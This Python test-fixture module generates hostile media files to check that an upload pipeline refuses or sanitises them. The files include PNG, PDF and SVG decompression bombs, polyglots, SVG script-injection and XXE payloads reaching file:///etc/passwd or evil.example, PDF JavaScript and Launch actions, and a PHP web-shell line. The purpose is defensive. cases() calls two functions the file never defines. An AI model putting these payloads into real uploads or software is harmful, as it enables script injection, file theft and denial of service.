"""Two hundred hostile files and more, each made when asked: (name of the case, file name, maker).

They are what one finds in reports of holes: bombs, files of two kinds, truncated ones, false types, drawings
and documents that act, boxes and directories that lead nowhere or round in circles.
"""

from __future__ import annotations

import io
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory

import pyvips

from parvis.media.tests import recordings
from parvis.media.tests.pictures import draw

Make = Callable[[], bytes]


@dataclass(frozen=True)
class Case:
    """One file. sort: "picture", "film", "sound", "document" or "captions"; must: "refused" or "harmless" (or either)."""

    name: str
    sort: str
    file: str
    make: Make
    must: str = "either"


@cache
def good(ending: str) -> bytes:
    """A small good file of that kind."""
    with TemporaryDirectory() as folder:
        path = Path(folder) / f"good.{ending}"
        if ending in ("mp4", "webm"):
            return recordings.film(path).read_bytes()
        if ending in ("mp3", "ogg", "m4a", "wav"):
            return recordings.sound(path).read_bytes()
        if ending == "pdf":
            return recordings.document(path).read_bytes()
        return draw(path, width=400, height=300).read_bytes()


def cases() -> list[Case]:
    """All of them."""
    return [*_bombs(), *_truncated(), *_polyglots(), *_wrong_types(), *_drawings(), *_directories(), *_moving(),
            *_documents(), *_films(), *_captions(), *_notes(), *_noise()]  # fmt: skip


def chunk(kind: bytes, content: bytes) -> bytes:
    """One chunk of a PNG."""
    checked = kind + content
    return len(content).to_bytes(4, "big") + checked + zlib.crc32(checked).to_bytes(4, "big")


def png(width: int, height: int, *, data: bytes | None = None, more: bytes = b"", kind: int = 0) -> bytes:
    """A PNG that says it is so large; its pixels are what ``data`` compresses to."""
    size = struct.pack(">IIBBBBB", width, height, 8, kind, 0, 0, 0)
    pixels = zlib.compress(bytes(1000) if data is None else data, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + more + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def _bombs() -> Iterator[Case]:
    for width, height in (
        (100_000, 1),
        (1, 100_000),
        (100_000, 100_000),
        (40_000, 40_000),
        (2**31 - 1, 2**31 - 1),
        (0, 10),
    ):
        yield Case(f"png-of-{width}x{height}", "picture", "a.png", lambda w=width, h=height: png(w, h), "refused")
    yield Case("png-zeros", "picture", "a.png", lambda: png(30_000, 30_000, data=bytes(1 << 24)), "refused")
    yield Case("png-text-bomb", "picture", "a.png", lambda: png(8, 8, data=bytes(72), more=_text_bomb(b"zTXt")))
    yield Case("png-itext-bomb", "picture", "a.png", lambda: png(8, 8, data=bytes(72), more=_text_bomb(b"iTXt")))
    yield Case("png-icc-bomb", "picture", "a.png", lambda: png(8, 8, data=bytes(72), more=_icc_bomb()))
    yield Case("png-interlaced-bomb", "picture", "a.png", _interlaced, "refused")
    for side in (65_500, 50_000):
        yield Case(f"jpeg-of-{side}", "picture", "a.jpg", lambda s=side: _sized_jpeg(s, s), "refused")
    yield Case("jpeg-many-scans", "picture", "a.jpg", _many_scans)
    yield Case("webp-of-16383", "picture", "a.webp", _sized_webp, "refused")
    for side in (100_000, 2**31):
        yield Case(
            f"tiff-of-{side}", "picture", "a.tif", lambda s=side: tiff([(256, 4, 1, s), (257, 4, 1, s)]), "refused"
        )
    yield Case("gif-of-65535", "picture", "a.gif", lambda: gif(1, width=65_535, height=65_535), "refused")
    yield Case("svg-wide", "picture", "a.svg", lambda: svg("<rect width='9' height='9'/>", size=("100000", "100000")))
    yield Case("svg-endless", "picture", "a.svg", lambda: svg("<rect width='9' height='9'/>", size=("1e30", "1e30")))
    yield Case("svg-deep", "picture", "a.svg", lambda: svg("<g>" * 50_000 + "</g>" * 50_000), "refused")
    yield Case("svg-many", "picture", "a.svg", lambda: svg("<path d='M0 0'/>" * 250_000), "refused")
    yield Case("svg-uses", "picture", "a.svg", _nested_uses)
    yield Case("svg-filter", "picture", "a.svg", lambda: svg(
        "<filter id='f' x='-1e6' y='-1e6' width='1e7' height='1e7'><feGaussianBlur stdDeviation='99999'/></filter>"
        "<rect width='90' height='90' filter='url(#f)'/>"))  # fmt: skip


def _text_bomb(kind: bytes) -> bytes:
    text = zlib.compress(bytes(200 << 20), 9)
    head = b"Comment\0\0" if kind == b"zTXt" else b"Comment\0\1\0\0\0"
    return chunk(kind, head + text)


def _icc_bomb() -> bytes:
    return chunk(b"iCCP", b"profile\0\0" + zlib.compress(bytes(200 << 20), 9))


def _interlaced() -> bytes:
    size = struct.pack(">IIBBBBB", 11_000, 11_000, 16, 6, 0, 0, 1)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", size)
        + chunk(b"IDAT", zlib.compress(bytes(1 << 20)))
        + chunk(b"IEND", b"")
    )


def _sized_jpeg(width: int, height: int) -> bytes:
    """A good JPEG whose frame header lies about its size."""
    whole = bytearray(good("jpg"))
    at = next(place for mark in (b"\xff\xc0", b"\xff\xc2") if (place := whole.find(mark)) > 0)
    whole[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(whole)


def _many_scans() -> bytes:
    grid = pyvips.Image.xyz(600, 600)[0].cast("uchar")
    whole: bytes = grid.jpegsave_buffer(interlace=True)
    at = whole.find(b"\xff\xda", whole.find(b"\xff\xda") + 2)
    return whole[:-2] + whole[at:-2] * 300 + b"\xff\xd9"


def _sized_webp() -> bytes:
    """A lossless WebP that says it is 16384 by 16384."""
    bits = 16_383 | 16_383 << 14
    data = b"\x2f" + struct.pack("<I", bits) + bytes(64)
    body = b"VP8L" + struct.pack("<I", len(data)) + data + (b"\0" if len(data) % 2 else b"")
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def _nested_uses() -> bytes:
    levels = "".join(
        f"<g id='a{n}'>" + f"<use href='#a{n - 1}'/>" * 10 + "</g>"
        if n
        else "<g id='a0'><rect width='1' height='1'/></g>"
        for n in range(10)
    )
    return svg(f"<defs>{levels}</defs><use href='#a9'/>")


def _truncated() -> Iterator[Case]:
    for ending in ("jpg", "png", "webp", "tif", "gif", "avif"):
        for kept in (1, 5, 20, 40, 60, 80, 95):
            cut = lambda e=ending, k=kept: good(e)[: max(12, len(good(e)) * k // 100)]  # noqa: E731
            # A GIF, a TIFF or an AVIF may be whole enough to be shown before its end.
            yield Case(
                f"cut-{ending}-{kept}",
                "picture",
                f"a.{ending}",
                cut,
                "refused" if ending in ("jpg", "png", "webp") else "either",
            )
    for ending in ("mp4", "webm", "mp3", "ogg", "m4a", "wav", "pdf"):
        sort = {"mp4": "film", "webm": "film", "pdf": "document"}.get(ending, "sound")
        for kept in (1, 20, 60):
            cut = lambda e=ending, k=kept: good(e)[: max(12, len(good(e)) * k // 100)]  # noqa: E731
            yield Case(f"cut-{ending}-{kept}", sort, f"a.{ending}", cut)


PAGE = b"<html><script>alert(1)</script></html>"
PHP = b"<?php system($_GET['c']); ?>"


def archive() -> bytes:
    """A small ZIP."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as made:
        made.writestr("index.html", PAGE)
    return held.getvalue()


def _tar() -> bytes:
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w") as made:
        made.addfile(tarfile.TarInfo("a"), io.BytesIO())
    return held.getvalue()


def _polyglots() -> Iterator[Case]:
    tails = {
        "zip": archive, "html": lambda: PAGE, "pdf": lambda: good("pdf"), "php": lambda: PHP, "tar": _tar,
        "rar": lambda: b"Rar!\x1a\x07\x00" + bytes(90), "7z": lambda: b"7z\xbc\xaf\x27\x1c" + bytes(90),
        "elf": lambda: b"\x7fELF" + bytes(200), "mp4": lambda: good("mp4"),
    }  # fmt: skip
    for ending in ("jpg", "png", "gif", "webp", "tif"):
        for name, tail in tails.items():
            # What may follow a picture unseen is cut off by making it anew; pages and archives are refused.
            must = "either" if name in ("tar", "elf", "mp4") else "refused"
            yield Case(f"{ending}+{name}", "picture", f"a.{ending}", lambda e=ending, t=tail: good(e) + t(), must)
    yield Case("gif-as-script", "picture", "a.gif", lambda: b"GIF89a/*" + bytes(40) + b"*/=1;alert(1)//")
    yield Case("jpeg-comment-page", "picture", "a.jpg", lambda: _in_jpeg(b"\xff\xfe", PAGE), "refused")
    yield Case("jpeg-comment-php", "picture", "a.jpg", lambda: _in_jpeg(b"\xff\xfe", PHP), "refused")
    yield Case("jpeg-deep-page", "picture", "a.jpg", lambda: _in_jpeg(b"\xff\xfe", b"x" * 60_000, times=3, last=PAGE))
    yield Case(
        "png-text-page",
        "picture",
        "a.png",
        lambda: png(8, 8, data=bytes(72), more=chunk(b"tEXt", b"a\0" + PAGE)),
        "refused",
    )
    yield Case("pdf+zip", "document", "a.pdf", lambda: good("pdf") + archive(), "refused")
    yield Case("zip-then-pdf", "document", "a.pdf", lambda: archive() + good("pdf"), "refused")
    yield Case("mp4+zip", "film", "a.mp4", lambda: good("mp4") + archive(), "refused")
    yield Case("webm+page", "film", "a.webm", lambda: good("webm") + PAGE, "refused")
    yield Case("mp3+zip", "sound", "a.mp3", lambda: good("mp3") + archive(), "refused")
    yield Case("wav+page", "sound", "a.wav", lambda: good("wav") + PAGE, "refused")


def _in_jpeg(marker: bytes, content: bytes, *, times: int = 1, last: bytes = b"") -> bytes:
    parts = [content] * times + ([last] if last else [])
    segments = b"".join(marker + struct.pack(">H", len(part) + 2) + part for part in parts)
    whole = good("jpg")
    return whole[:2] + segments + whole[2:]


def _wrong_types() -> Iterator[Case]:
    contents: dict[str, bytes] = {
        "exe": b"MZ" + bytes(200), "elf": b"\x7fELF" + bytes(200), "zip": archive(), "html": PAGE, "php": PHP,
        "xml": b"<?xml version='1.0'?><a/>", "rtf": b"{\\rtf1}", "psd": b"8BPS" + bytes(200), "bmp": b"BM" + bytes(200),
        "ico": b"\0\0\1\0" + bytes(200), "eps": b"%!PS-Adobe-3.0 EPSF", "mvg": b"push graphic-context\nimage over 0,0 0,0 'https://x/'",
        "swf": b"FWS" + bytes(200), "zeros": bytes(5000), "nothing": b"", "text": b"bonjour",
    }  # fmt: skip
    for name, content in contents.items():
        yield Case(f"{name}-as-jpg", "picture", "a.jpg", lambda c=content: c, "refused")
    for name in ("exe", "html", "nothing"):
        for sort, file in (("film", "a.mp4"), ("sound", "a.mp3"), ("document", "a.pdf")):
            yield Case(f"{name}-as-{file[2:]}", sort, file, lambda c=contents[name]: c, "refused")
    for true, told in (("png", "jpg"), ("jpg", "png"), ("gif", "png"), ("webp", "jpg"), ("tif", "webp")):
        yield Case(f"{true}-called-{told}", "picture", f"a.{told}", lambda t=true: good(t), "refused")
    yield Case("avi-as-mp4", "film", "a.mp4", lambda: b"RIFF" + bytes(4) + b"AVI LIST" + bytes(200), "refused")
    yield Case("playlist-as-mp4", "film", "a.mp4", lambda: b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n", "refused")
    yield Case("matroska-as-webm", "film", "a.webm", lambda: good("webm").replace(b"webm", b"matr", 1), "refused")
    yield Case("sound-as-film", "film", "a.mp4", lambda: good("m4a"), "refused")


def svg(inner: str, *, head: str = "", size: tuple[str, str] = ("100", "100"), attributes: str = "") -> bytes:
    """A drawing around something."""
    return (
        f'{head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'width="{size[0]}" height="{size[1]}" viewBox="0 0 100 100" {attributes}>'
        f'<rect x="1" y="1" width="50" height="50" fill="red"/>{inner}</svg>'
    ).encode()


# Thirty and more manners for a drawing to act. Each word of FORBIDDEN must be gone from what is given.
DRAWINGS = {
    "script": "<script>alert(1)</script>",
    "script-cdata": "<script><![CDATA[alert(1)]]></script>",
    "script-href": "<script href='https://evil.example/x.js'/>",
    "script-xlink": "<script xlink:href='data:text/javascript,alert(1)'/>",
    "script-case": "<SCRIPT>alert(1)</SCRIPT>",
    "script-namespace": "<x:script xmlns:x='http://www.w3.org/2000/svg'>alert(1)</x:script>",
    "script-html": "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script>",
    "onload": "<rect width='9' height='9' onload='alert(1)'/>",
    "onclick": "<rect width='9' height='9' onclick='alert(1)'/>",
    "onmouseover": "<g onmouseover='alert(1)'><rect width='9' height='9'/></g>",
    "onfocusin": "<a tabindex='1' onfocusin='alert(1)'><rect width='9' height='9'/></a>",
    "onbegin": "<animate onbegin='alert(1)' attributeName='x' dur='1s'/>",
    "onend": "<set onend='alert(1)' attributeName='x' to='1'/>",
    "onerror": "<image href='x' onerror='alert(1)'/>",
    "handler": "<handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>alert(1)</handler>",
    "listener": "<listener event='load' handler='#x'/>",
    "link-script": "<a href='javascript:alert(1)'><text y='20'>x</text></a>",
    "link-xlink-script": "<a xlink:href='javascript:alert(1)'><text y='20'>x</text></a>",
    "link-spaced-script": "<a href='java&#10;script:alert(1)'><text y='20'>x</text></a>",
    "link-data": "<a href='data:text/html,&lt;script>alert(1)&lt;/script>'><text y='20'>x</text></a>",
    "animate-href": "<a><animate attributeName='href' values='javascript:alert(1)'/><text y='20'>x</text></a>",
    "set-handler": "<set attributeName='onmouseover' to='alert(1)'/>",
    "foreign-object": "<foreignObject width='9' height='9'><body xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></body></foreignObject>",
    "foreign-frame": "<foreignObject width='9' height='9'><iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:alert(1)'/></foreignObject>",
    "iframe": "<iframe xmlns='http://www.w3.org/1999/xhtml' srcdoc='&lt;script>alert(1)&lt;/script>'/>",
    "embed": "<embed xmlns='http://www.w3.org/1999/xhtml' src='https://evil.example/'/>",
    "image-abroad": "<image href='https://evil.example/track.png' width='9' height='9'/>",
    "image-file": "<image href='file:///etc/passwd' width='9' height='9'/>",
    "image-svg": "<image href='data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=' width='9' height='9'/>",
    "use-abroad": "<use href='https://evil.example/x.svg#a'/>",
    "use-data": "<use href='data:image/svg+xml,&lt;svg id=&quot;a&quot;/>#a'/>",
    "style-import": "<style>@import url('https://evil.example/x.css');</style>",
    "style-url": "<style>rect { fill: url('https://evil.example/x.svg#a'); }</style>",
    "style-script": "<style>rect { background: url('javascript:alert(1)'); }</style>",
    "style-attribute": "<rect width='9' height='9' style='fill:url(https://evil.example/x#a)'/>",
    "style-font": "<style>@font-face { font-family: x; src: url(https://evil.example/x.woff); }</style>",
    "filter-image": "<filter id='f'><feImage href='https://evil.example/x.png'/></filter><rect width='9' height='9' filter='url(#f)'/>",
    "cursor-abroad": "<rect width='9' height='9' cursor='url(https://evil.example/x.cur),auto'/>",
    "metadata": "<metadata><x:xmpmeta xmlns:x='adobe:ns:meta/'>48.8566 alert(1)</x:xmpmeta></metadata>",
    "mask-abroad": "<rect width='9' height='9' mask='url(https://evil.example/x.svg#m)'/>",
}
FORBIDDEN = (
    b"alert", b"script", b"javascript", b"evil.example", b"onload", b"onclick", b"onmouse", b"onbegin", b"onend",
    b"onerror", b"onfocus", b"foreignobject", b"iframe", b"<embed", b"file:", b"@import", b"passwd", b"<!entity",
    b"<html", b"<?php", b"somebody", b"image/svg", b"text/html",
)  # fmt: skip


def _drawings() -> Iterator[Case]:
    for name, inner in DRAWINGS.items():
        yield Case(f"svg-{name}", "picture", "a.svg", lambda i=inner: svg(i))
    yield Case("svg-root-onload", "picture", "a.svg", lambda: svg("", attributes='onload="alert(1)"'))
    yield Case(
        "svg-base",
        "picture",
        "a.svg",
        lambda: svg("<image href='x.png'/>", attributes='xml:base="https://evil.example/"'),
    )
    yield Case(
        "svg-stylesheet",
        "picture",
        "a.svg",
        lambda: svg("", head="<?xml version='1.0'?><?xml-stylesheet href='https://evil.example/x.xsl'?>"),
    )
    entity = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    yield Case("svg-entity-file", "picture", "a.svg", lambda: svg("<text y='20'>&x;</text>", head=entity), "refused")
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">' for n in range(10))
    yield Case(
        "svg-laughs", "picture", "a.svg", lambda: svg("<text>&l9;</text>", head=f"<!DOCTYPE svg [{laughs}]>"), "refused"
    )
    yield Case(
        "svg-dtd-abroad", "picture", "a.svg", lambda: svg("", head='<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">')
    )
    yield Case(
        "svg-include",
        "picture",
        "a.svg",
        lambda: svg("<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' parse='text'/>"),
    )
    yield Case(
        "svg-utf7",
        "picture",
        "a.svg",
        lambda: b"<?xml version='1.0' encoding='utf-7'?>" + svg("+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    )
    yield Case("svg-not-closed", "picture", "a.svg", lambda: svg("<g>"), "refused")


def tiff(entries: list[tuple[int, int, int, int]], *, following: int = 0) -> bytes:
    """A TIFF of one directory; entries: (tag, type, count, value); following: where the next one is."""
    base = [
        (256, 4, 1, 8),
        (257, 4, 1, 8),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 4, 1, 8),
        (277, 3, 1, 1),
        (278, 4, 1, 8),
        (279, 4, 1, 64),
    ]
    told = {entry[0]: entry for entry in base} | {entry[0]: entry for entry in entries}
    listed = b"".join(struct.pack("<HHII", *told[tag]) for tag in sorted(told) if told[tag][3] <= 0xFFFFFFFF)
    at = 8 + 64
    return (
        b"II*\0"
        + struct.pack("<I", at)
        + bytes(range(64))
        + struct.pack("<H", len(told))
        + listed
        + struct.pack("<I", following)
    )


def _directories() -> Iterator[Case]:
    yield Case("tiff-loop", "picture", "a.tif", lambda: tiff([], following=72))
    yield Case("tiff-next-nowhere", "picture", "a.tif", lambda: tiff([], following=0xFFFFFF00))
    yield Case("tiff-sub-loop", "picture", "a.tif", lambda: tiff([(330, 4, 1, 72)]))
    yield Case("tiff-exif-loop", "picture", "a.tif", lambda: tiff([(34665, 4, 1, 72)]))
    yield Case("tiff-many-samples", "picture", "a.tif", lambda: tiff([(277, 3, 1, 65535)]), "refused")
    yield Case("tiff-strip-nowhere", "picture", "a.tif", lambda: tiff([(273, 4, 1, 0xFFFFFF00)]), "refused")
    yield Case("tiff-huge-strip", "picture", "a.tif", lambda: tiff([(279, 4, 1, 0xFFFFFF00)]))
    yield Case("tiff-no-bits", "picture", "a.tif", lambda: tiff([(258, 3, 1, 0)]), "refused")
    yield Case("tiff-strange-packing", "picture", "a.tif", lambda: tiff([(259, 3, 1, 34712)]), "refused")
    yield Case("tiff-profile-lie", "picture", "a.tif", lambda: tiff([(34675, 7, 0x7FFFFFFF, 8)]))
    yield Case("tiff-ten-thousand-pages", "picture", "a.tif", _many_pages)
    yield Case("tiff-directory-nowhere", "picture", "a.tif", lambda: b"II*\0\xff\xff\xff\x7f" + bytes(90), "refused")


def _many_pages() -> bytes:
    one = tiff([])
    directory = one[72:-4]
    parts = [one[:72]]
    for number in range(10_000):
        end = 72 + (number + 1) * (len(directory) + 4)
        parts.append(directory + struct.pack("<I", end if number < 9_999 else 0))
    return b"".join(parts)


def gif(frames: int, *, width: int = 4, height: int = 4) -> bytes:
    """A GIF of so many tiny frames on a screen of that size."""
    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    frame = b"\x2c\0\0\0\0\1\0\1\0\0\x02\x02\x44\x01\0"
    return head + frame * frames + b"\x3b"


def _moving() -> Iterator[Case]:
    yield Case("gif-100000-frames", "picture", "a.gif", lambda: gif(100_000))
    yield Case(
        "gif-frame-outside",
        "picture",
        "a.gif",
        lambda: gif(1).replace(b"\x2c\0\0\0\0\1\0", b"\x2c\xff\xff\xff\xff\1\0"),
    )
    yield Case("gif-no-frame", "picture", "a.gif", lambda: gif(0), "refused")
    yield Case("gif-endless-blocks", "picture", "a.gif", lambda: gif(0)[:-1] + b"\x21\xfe" + b"\xffa" * 100_000)
    yield Case("gif-bad-code", "picture", "a.gif", lambda: gif(1).replace(b"\x02\x02\x44", b"\x0c\x02\xff"))


def _pdf(objects: dict[int, str], root: int = 1, *, trailer: str = "") -> bytes:
    out, places = b"%PDF-1.7\n", {}
    for number, content in objects.items():
        places[number] = len(out)
        out += f"{number} 0 obj\n{content}\nendobj\n".encode("latin-1")
    start = len(out)
    out += f"xref\n0 {max(objects) + 1}\n0000000000 65535 f \n".encode()
    for number in range(1, max(objects) + 1):
        out += f"{places.get(number, 0):010d} 00000 n \n".encode()
    return out + f"trailer\n<</Size {max(objects) + 1}/Root {root} 0 R{trailer}>>\nstartxref\n{start}\n%%EOF\n".encode()


_PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]{}>>"
_ACTIONS = {
    "javascript": "<</S/JavaScript/JS(app.alert\\('evil.example'\\))>>",
    "launch": "<</S/Launch/F(passwd)/Win<</F(passwd)>>>>",
    "submit": "<</S/SubmitForm/F(https://evil.example)>>",
    "import": "<</S/ImportData/F(passwd)>>",
    "remote": "<</S/GoToR/F(passwd)/D[0/Fit]>>",
    "embedded": "<</S/GoToE/F(passwd)>>",
    "chained": "<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(alert)>>>>",
    "rendition": "<</S/Rendition/OP 0/JS(alert)>>",
}


def _documents() -> Iterator[Case]:
    for name, action in _ACTIONS.items():
        for where in ("open", "page", "link"):
            yield Case(f"pdf-{name}-{where}", "document", "a.pdf", lambda a=action, w=where: _acting(a, w), "harmless")
    yield Case("pdf-attachment", "document", "a.pdf", lambda: _pdf({
        1: "<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a) 4 0 R]>>>>>>", 2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: _PAGE.format(""), 4: "<</Type/Filespec/F(passwd)/EF<</F 5 0 R>>>>", 5: "<</Length 6>>stream\nscript\nendstream"}))  # fmt: skip
    yield Case("pdf-form-script", "document", "a.pdf", lambda: _pdf({
        1: "<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[4 0 R]/XFA(script)>>>>", 2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: _PAGE.format("/Annots[4 0 R]"), 4: "<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AA<</K<</S/JavaScript/JS(alert)>>>>>>"}))  # fmt: skip
    yield Case(
        "pdf-page-loop",
        "document",
        "a.pdf",
        lambda: _pdf({1: "<</Type/Catalog/Pages 2 0 R>>", 2: "<</Type/Pages/Kids[2 0 R]/Count 1>>"}),
        "refused",
    )
    yield Case(
        "pdf-no-page",
        "document",
        "a.pdf",
        lambda: _pdf({1: "<</Type/Catalog/Pages 2 0 R>>", 2: "<</Type/Pages/Kids[]/Count 0>>"}),
        "refused",
    )
    yield Case(
        "pdf-huge-page",
        "document",
        "a.pdf",
        lambda: _pdf(
            {
                1: "<</Type/Catalog/Pages 2 0 R>>",
                2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
                3: "<</Type/Page/Parent 2 0 R/MediaBox[0 0 1e9 1e9]>>",
            }
        ),
    )
    yield Case("pdf-stream-bomb", "document", "a.pdf", _stream_bomb)
    yield Case(
        "pdf-deep-array",
        "document",
        "a.pdf",
        lambda: _pdf(
            {
                1: "<</Type/Catalog/Pages 2 0 R/X " + "[" * 5000 + "]" * 5000 + ">>",
                2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
                3: _PAGE.format(""),
            }
        ),
    )
    yield Case(
        "pdf-xref-loop",
        "document",
        "a.pdf",
        lambda: _pdf(
            {1: "<</Type/Catalog/Pages 2 0 R>>", 2: "<</Type/Pages/Kids[3 0 R]/Count 1>>", 3: _PAGE.format("")},
            trailer="/Prev 9",
        ),
    )
    yield Case("pdf-locked", "document", "a.pdf", _locked, "refused")


def _acting(action: str, where: str) -> bytes:
    root, page, more = "", "", {}
    if where == "open":
        root = f"/OpenAction {action}"
    elif where == "page":
        page = f"/AA<</O {action}>>"
    else:
        page, more = "/Annots[4 0 R]", {4: f"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A {action}>>"}
    return _pdf(
        {
            1: f"<</Type/Catalog/Pages 2 0 R{root}>>",
            2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: _PAGE.format(page),
            **more,
        }
    )


def _stream_bomb() -> bytes:
    packed = zlib.compress(b"0 0 9 9 re f\n" * (16 << 20), 9)
    body = f"<</Length {len(packed)}/Filter/FlateDecode>>stream\n".encode("latin-1") + packed + b"\nendstream"
    page = _PAGE.format("/Contents 4 0 R")
    return _pdf(
        {
            1: "<</Type/Catalog/Pages 2 0 R>>",
            2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: page,
            4: body.decode("latin-1"),
        }
    )


def _locked() -> bytes:
    import pikepdf

    held = io.BytesIO()
    with pikepdf.open(io.BytesIO(good("pdf"))) as document:
        document.save(held, encryption=pikepdf.Encryption(owner="a", user="b"))
    return held.getvalue()


def _box(kind: bytes, content: bytes = b"", *, size: int | None = None) -> bytes:
    return struct.pack(">I", len(content) + 8 if size is None else size) + kind + content


def _films() -> Iterator[Case]:
    start = _box(b"ftyp", b"isom\0\0\2\0isomiso2mp41")
    yield Case("mp4-box-too-large", "film", "a.mp4", lambda: start + _box(b"moov", size=0x7FFFFFFF), "refused")
    yield Case("mp4-box-of-zero", "film", "a.mp4", lambda: start + _box(b"moov", size=0) + bytes(90), "refused")
    yield Case("mp4-box-of-one", "film", "a.mp4", lambda: start + _box(b"moov", bytes(8), size=1), "refused")
    yield Case("mp4-deep", "film", "a.mp4", lambda: start + _nested(b"moov", 3_000), "refused")
    yield Case("mp4-deep-tracks", "film", "a.mp4", lambda: start + _box(b"moov", _nested(b"trak", 3_000)), "refused")
    yield Case(
        "mp4-many-tracks",
        "film",
        "a.mp4",
        lambda: start + _box(b"moov", _box(b"trak", _box(b"mdia")) * 20_000),
        "refused",
    )
    yield Case("mp4-table-bomb", "film", "a.mp4", lambda: _count_in(b"stts"))
    yield Case("mp4-sizes-bomb", "film", "a.mp4", lambda: _count_in(b"stsz"))
    yield Case("mp4-chunks-bomb", "film", "a.mp4", lambda: _count_in(b"stco"))
    yield Case("mp4-no-picture-data", "film", "a.mp4", lambda: good("mp4").replace(b"mdat", b"free"))
    yield Case("mp4-strange-codec", "film", "a.mp4", lambda: good("mp4").replace(b"avc1", b"zzzz"), "refused")
    yield Case("mp4-endless", "film", "a.mp4", lambda: _long("mvhd", 16))
    yield Case(
        "webm-endless-element",
        "film",
        "a.webm",
        lambda: good("webm")[:60] + b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff" + bytes(90),
        "refused",
    )
    yield Case("webm-deep", "film", "a.webm", lambda: good("webm")[:60] + b"\xa3\x88" * 5000, "refused")
    yield Case("mp3-tag-bomb", "sound", "a.mp3", lambda: b"ID3\4\0\0\x7f\x7f\x7f\x7f" + bytes(5000), "refused")
    yield Case("mp3-noise", "sound", "a.mp3", lambda: b"\xff\xfb\x90\x00" + random.Random(1).randbytes(5000))
    yield Case(
        "wav-endless",
        "sound",
        "a.wav",
        lambda: (
            b"RIFF\xff\xff\xff\xffWAVEfmt \x10\0\0\0\1\0\1\0\x80\xbb\0\0\0\x77\1\0\2\0\x10\0data\xff\xff\xff\xff"
            + bytes(90)
        ),
    )
    yield Case(
        "wav-no-channels",
        "sound",
        "a.wav",
        lambda: b"RIFF\x64\0\0\0WAVEfmt \x10\0\0\0\1\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0data\x10\0\0\0" + bytes(16),
        "refused",
    )
    yield Case("ogg-page-loop", "sound", "a.ogg", lambda: b"OggS" + bytes(23) * 200, "refused")
    for place in range(6):
        yield Case(f"mp4-broken-{place}", "film", "a.mp4", lambda p=place: _broken(good("mp4"), p))
        yield Case(f"webm-broken-{place}", "film", "a.webm", lambda p=place: _broken(good("webm"), p))


def _nested(kind: bytes, depth: int) -> bytes:
    out = b""
    for _ in range(depth):
        out = _box(kind, out)
    return out


def _count_in(table: bytes) -> bytes:
    whole = bytearray(good("mp4"))
    at = whole.find(table)
    whole[at + 8 : at + 12] = b"\x7f\xff\xff\xff"
    return bytes(whole)


def _long(box: str, offset: int) -> bytes:
    whole = bytearray(good("mp4"))
    at = whole.find(box.encode())
    whole[at + 4 + offset : at + 8 + offset] = b"\x7f\xff\xff\xff"
    return bytes(whole)


def _broken(whole: bytes, seed: int) -> bytes:
    """The same with some of its bytes changed by chance."""
    chance, out = random.Random(seed), bytearray(whole)
    for _ in range(40):
        out[chance.randrange(16, len(out))] = chance.randrange(256)
    return bytes(out)


def _captions() -> Iterator[Case]:
    cue = "00:00.000 --> 00:01.000\nBonjour\n\n"
    yield Case("vtt-heavy", "captions", "a.vtt", lambda: b"WEBVTT\n\n" + cue.encode() * 200_000, "refused")
    yield Case("vtt-many", "captions", "a.vtt", lambda: b"WEBVTT\n\n" + cue.encode() * 25_000, "refused")
    yield Case(
        "vtt-long-line",
        "captions",
        "a.vtt",
        lambda: b"WEBVTT\n\n00:00.000 --> 00:01.000\n" + b"a" * (1 << 20),
        "refused",
    )
    yield Case("vtt-backwards", "captions", "a.vtt", lambda: b"WEBVTT\n\n00:09.000 --> 00:01.000\nBonjour\n", "refused")
    yield Case("vtt-empty", "captions", "a.vtt", lambda: b"WEBVTT\n", "refused")
    yield Case("vtt-subrip", "captions", "a.vtt", lambda: b"1\n00:00:01,000 --> 00:00:02,000\nBonjour\n", "refused")
    yield Case("vtt-binary", "captions", "a.vtt", lambda: bytes(range(256)) * 9, "refused")
